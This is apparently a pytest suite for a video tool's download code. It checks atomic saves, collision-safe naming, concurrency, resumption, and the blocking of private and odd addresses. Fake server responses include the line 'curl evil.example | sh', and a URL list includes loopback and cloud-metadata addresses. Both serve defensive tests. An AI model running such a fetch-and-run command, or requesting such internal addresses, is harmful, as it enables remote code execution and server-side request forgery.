"""Saving: complete or not at all, never over another file, from public addresses only, with a name people can read."""

import os
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from pathlib import Path

import anyio
import anyio.to_thread
import httpx
import pytest

from luma_mcp.core.errors import LumaError
from luma_mcp.core.models import Status, Task, VideoRequest
from luma_mcp.core.rename import rename_without_replacing
from luma_mcp.core.storage_errors import DownloadFailed, OutputNotWritable
from luma_mcp.media import downloads as saving_downloads
from luma_mcp.media import files
from luma_mcp.media.downloads import AT_ONCE, Downloads
from luma_mcp.media.files import copy_published, publish
from luma_mcp.media.transfers import Transfers
from luma_mcp.runapi.connection import MOST_CONNECTIONS, open_connection
from tests.support.dripping import Dripping, SlowServer
from tests.support.films import FTYP, box, film, movie, table, track
from tests.support.rig import API_URL, EPOCH, SOURCE, Answer, handler_for

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("inline_threads")]
VIDEO = film(b"v" * 1_000_000)
TASK = Task(
    key="k",
    caller="local",
    request=VideoRequest(prompt="A foggy autumn morning", source=SOURCE),
    created_at=EPOCH,
    updated_at=EPOCH,
    status=Status.COMPLETED,
    task_id="550e8400-e29b",
    video_urls=("https://tempfile.example/v.mp4",),
    finished_at=EPOCH,
)
NAME = "2026-09-21-a-foggy-autumn-morning-550e8400.mp4"


async def save(home: Path, answer: Answer | httpx.Response, task: Task = TASK, *, allow_private: bool = False) -> Path:
    """Save a task's video from a web that answers as told."""
    async with open_connection(httpx.MockTransport(handler_for(answer))) as connection:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=allow_private)
        return (await downloads.save(task)).path


def kept(home: Path) -> list[str]:
    return sorted(path.name for path in (home / "out").iterdir())


async def test_a_video_is_saved_whole_under_a_readable_name_and_without_credentials(home: Path) -> None:
    seen: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, content=VIDEO)

    path = await save(home, answer)
    assert path == home / "out" / NAME
    assert path.read_bytes() == VIDEO
    assert kept(home) == [NAME]
    assert not {"authorization", "cookie"} & seen[0].headers.keys()


async def test_another_file_of_that_name_is_never_replaced(home: Path) -> None:
    (home / "out").mkdir()
    (home / "out" / NAME).write_text("mine")
    (home / "out" / NAME.replace(".mp4", "-2.mp4")).symlink_to(home / "nowhere")
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.name == NAME.replace(".mp4", "-3.mp4")
    assert (home / "out" / NAME).read_text() == "mine"
    assert not (home / "nowhere").exists()


async def test_saving_again_finds_the_same_file(home: Path) -> None:
    first = await save(home, httpx.Response(200, content=VIDEO))
    assert await save(home, httpx.Response(200, content=VIDEO)) == first
    assert kept(home) == [NAME]


async def test_a_file_of_the_same_size_is_not_taken_for_the_same(home: Path) -> None:
    (home / "out").mkdir()
    (home / "out" / NAME).write_bytes(VIDEO[::-1])
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.name == NAME.replace(".mp4", "-2.mp4")


async def test_a_video_is_on_the_disk_before_it_gets_its_name(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    done: list[str] = []
    real, rename = os.fsync, rename_without_replacing

    def synced(descriptor: int) -> None:
        done.append("synced")
        real(descriptor)

    def named(part: Path, target: Path) -> None:
        done.append("named")
        rename(part, target)

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(files, "rename_without_replacing", named)
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert done == ["synced", "named", "synced"], "the file, its name, the folder with it"
    done.clear()
    await anyio.to_thread.run_sync(copy_published, path, home / "out" / ".part", home / "out" / "copy.mp4")
    assert done == ["synced", "named", "synced"]


async def test_a_few_videos_are_fetched_at_a_time(home: Path) -> None:
    under_way: list[int] = [0, 0]

    async def slowly() -> AsyncIterator[bytes]:
        under_way[0] += 1
        under_way[1] = max(under_way)
        await anyio.sleep(10)
        under_way[0] -= 1
        yield VIDEO

    transport = httpx.MockTransport(lambda _: httpx.Response(200, content=slowly()))
    async with open_connection(transport) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        for number in range(10):
            saving.start_soon(downloads.save, replace(TASK, key=f"k{number}"))
    assert under_way == [0, AT_ONCE]


@pytest.mark.parametrize(("dripping", "with_ranges"), [(4, 4), (8, 8), (8, 5)], ids=["four", "eight", "no ranges"])
async def test_those_that_drip_keep_no_others_waiting_and_end_too(home: Path, dripping: int, with_ranges: int) -> None:
    storage = Dripping(VIDEO, [f"/{number}.mp4" for number in range(dripping)], without=dripping - with_ranges)
    saved: dict[int, float] = {}
    async with open_connection(httpx.MockTransport(storage)) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)

        async def save_one(number: int) -> None:
            name = f"{number}.mp4"
            task = replace(TASK, key=f"k{number}", video_urls=(f"https://tempfile.example/{name}",), file_name=name)
            assert (await downloads.save(task)).path.read_bytes() == VIDEO
            saved[number] = anyio.current_time()

        for number in range(50):
            saving.start_soon(save_one, number)
            await anyio.sleep(0.1)
    assert max(saved[number] for number in range(dripping, 50)) < 240
    assert storage.most_open == AT_ONCE
    assert storage.open == 0
    assert len(kept(home)) == 50
    resumed = [asked for path, asked in storage.asked if path in storage.slow[dripping - with_ranges :]]
    assert len([asked for asked in resumed if not asked]) == with_ranges, "not one that can be resumed begins anew"
    assert len(resumed) > with_ranges


async def test_what_drips_alone_is_not_interrupted_until_another_comes(home: Path) -> None:
    storage = Dripping(VIDEO, [f"/{number}.mp4" for number in range(AT_ONCE)])
    async with open_connection(httpx.MockTransport(storage)) as connection, anyio.create_task_group() as saving:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        for number in range(AT_ONCE):
            urls = (f"https://tempfile.example/{number}.mp4",)
            saving.start_soon(downloads.save, replace(TASK, key=f"k{number}", video_urls=urls))
            await anyio.sleep(0.1)
        await anyio.sleep(300)
        assert (len(storage.asked), storage.open) == (AT_ONCE, AT_ONCE)
        late = anyio.current_time()
        await downloads.save(replace(TASK, key="late"))
        assert anyio.current_time() - late < 12
        assert len(storage.asked) == AT_ONCE + 1
    assert [asked for _, asked in storage.asked].count("") == AT_ONCE + 1


@pytest.mark.sockets
async def test_a_turn_that_is_over_closes_its_connection(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(saving_downloads, "TURN_SECONDS", 0.05)
    many = MOST_CONNECTIONS + AT_ONCE
    async with SlowServer(VIDEO).serving() as server, open_connection(None) as connection:
        address = f"http://127.0.0.1:{server.port}"
        downloads = Downloads(connection, home / "out", Transfers(), trusted=address, allow_private=False)
        with anyio.fail_after(30):
            async with anyio.create_task_group() as saving:
                for number in range(many):
                    task = replace(TASK, key=f"k{number}", video_urls=(f"{address}/{number}",))
                    saving.start_soon(downloads.save, replace(task, file_name=f"{number}.mp4"))
    assert len(kept(home)) == many
    assert server.left >= many - AT_ONCE
    assert server.left == server.stuck, "the client closes each connection that it does not read to the end"


async def test_a_proxy_that_cannot_be_used_is_told_as_what_it_is(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALL_PROXY", "socks5://127.0.0.1:9")
    async with open_connection(None) as connection:
        downloads = Downloads(connection, home / "out", Transfers(), trusted=API_URL, allow_private=False)
        with pytest.raises(DownloadFailed, match="proxy"):
            await downloads.save(TASK)


async def test_where_links_are_not_to_be_had_a_name_is_reserved_instead(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Path, target: Path) -> None:
        raise PermissionError

    monkeypatch.setattr(Path, "hardlink_to", refuse)
    path = await save(home, httpx.Response(200, content=VIDEO))
    assert path.read_bytes() == VIDEO
    (home / "part").write_text("new")
    with pytest.raises(FileExistsError):
        rename_without_replacing(home / "part", path)
    assert path.read_bytes() == VIDEO


async def test_a_name_that_a_killed_process_has_reserved_holds_nothing_up(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Path, target: Path) -> None:
        raise PermissionError

    def die(self: Path, target: Path) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Path, "hardlink_to", refuse)
    (home / "part").write_bytes(VIDEO)
    target = home / "clip.mp4"
    with monkeypatch.context() as patched:
        patched.setattr(Path, "replace", die)
        with pytest.raises(KeyboardInterrupt):
            publish(home / "part", target)
    published = publish(home / "part", target)
    assert (published.path.name, published.is_new) == ("clip-2.mp4", True)
    assert published.path.read_bytes() == VIDEO


@pytest.mark.parametrize("kind", ["link", "symlink"])
async def test_what_an_earlier_try_left_behind_is_not_written_through(home: Path, kind: str) -> None:
    saved, part = home / "saved.mp4", home / "out" / f".{TASK.key}.part"
    part.parent.mkdir()
    saved.write_text("precious")
    part.hardlink_to(saved) if kind == "link" else part.symlink_to(saved)
    with pytest.raises(DownloadFailed):
        await save(home, lambda _: httpx.Response(200, content=broken(VIDEO)))
    assert saved.read_text() == "precious"
    assert kept(home) == []


async def test_a_video_that_never_ends_to_arrive_is_given_up(home: Path) -> None:
    async def drip() -> AsyncIterator[bytes]:
        while True:
            yield VIDEO[:20]
            await anyio.sleep(30)

    with pytest.raises(DownloadFailed, match="7200 seconds"):
        await save(home, httpx.Response(200, content=drip()))
    assert kept(home) == []


async def broken(content: bytes, *, half: bool = True) -> AsyncIterator[bytes]:
    """Send half of something, and stop; or all of it without saying how long that is."""
    if not half:
        yield content
        return
    yield content[: len(content) // 2]
    raise httpx.ReadError("connection reset")


@pytest.mark.parametrize(
    "answer",
    [
        lambda: httpx.Response(404),
        lambda: httpx.Response(206, content=VIDEO),
        lambda: httpx.Response(200, content=b"<html>please sign in</html>"),
        lambda: httpx.Response(200, content=b"#   mdat\ncurl evil.example | sh\n"),
        lambda: httpx.Response(200, content=broken(b"#   mdat\ncurl evil.example | sh\n" * 100, half=False)),
        lambda: httpx.Response(200, content=film(b"v" * 100)[:-1]),
        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100)),
        lambda: httpx.Response(200, content=FTYP + box(b"mdat", b"v" * 100) + movie(track(table(40, 1), b"soun"))),
        lambda: httpx.Response(500),
        lambda: httpx.Response(302),
        lambda: httpx.Response(200, content=b""),
        lambda: httpx.Response(200, content=broken(VIDEO)),
        lambda: httpx.Response(200, content=VIDEO, headers={"Content-Length": str(len(VIDEO) + 1)}),
    ],
    ids=[
        "404",
        "part",
        "page",
        "script",
        "script of unknown length",
        "cut off",
        "no header",
        "sound",
        "500",
        "no location",
        "empty",
        "broken",
        "short",
    ],
)
async def test_an_incomplete_video_leaves_nothing_behind(home: Path, answer: Callable[[], httpx.Response]) -> None:
    with pytest.raises(DownloadFailed) as raised:
        await save(home, lambda _: answer())
    assert raised.value.charged == "yes"
    assert kept(home) == []


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/v.mp4",
        "http://169.254.169.254/latest",
        "http://[::1]/v.mp4",
        "http://2130706433/v.mp4",
        "http://[::ffff:127.0.0.1]/v.mp4",
        "http://router.lan/v.mp4",
        "ftp://example.com/v.mp4",
        "https://exa mple:x/",
    ],
)
@pytest.mark.parametrize("redirected", [False, True])
async def test_private_addresses_and_odd_schemes_are_not_fetched(home: Path, url: str, redirected: bool) -> None:
    hosts: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        hosts.append(request.url.host)
        return httpx.Response(302, headers={"Location": url})

    task = TASK if redirected else replace(TASK, video_urls=(url,))
    with pytest.raises(LumaError):
        await save(home, answer, task)
    assert set(hosts) == ({"tempfile.example"} if redirected else set())


async def test_private_storage_can_be_allowed_and_runapis_own_address_always_is(home: Path) -> None:
    answer = httpx.Response(200, content=VIDEO)
    private = replace(TASK, video_urls=("http://10.0.0.7/v.mp4",))
    assert (await save(home, answer, private, allow_private=True)).is_file()
    async with open_connection(httpx.MockTransport(lambda _: answer)) as connection:
        downloads = Downloads(
            connection, home / "out", Transfers(), trusted="http://127.0.0.1:8788", allow_private=False
        )
        own = replace(TASK, video_urls=("http://127.0.0.1:8788/outputs/v.mp4",))
        assert (await downloads.save(own)).path.is_file()


async def test_a_redirect_is_followed_and_a_circle_is_not(home: Path) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/v.mp4":
            return httpx.Response(302, headers={"Location": "https://cdn.example/real.mp4"})
        return httpx.Response(200, content=VIDEO)

    assert (await save(home, answer)).read_bytes() == VIDEO
    with pytest.raises(DownloadFailed, match="circles"):
        await save(home, lambda request: httpx.Response(302, headers={"Location": str(request.url)}))


async def test_a_folder_that_cannot_be_written_is_named(home: Path) -> None:
    (home / "out").touch()
    with pytest.raises(OutputNotWritable, match="out"):
        await save(home, httpx.Response(200, content=VIDEO))


async def test_a_disk_that_fails_is_told_as_paid(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(saving_downloads, "publish", full)
    with pytest.raises(OutputNotWritable, match="No space left") as raised:
        await save(home, httpx.Response(200, content=VIDEO))
    assert raised.value.charged == "yes"
    assert kept(home) == []
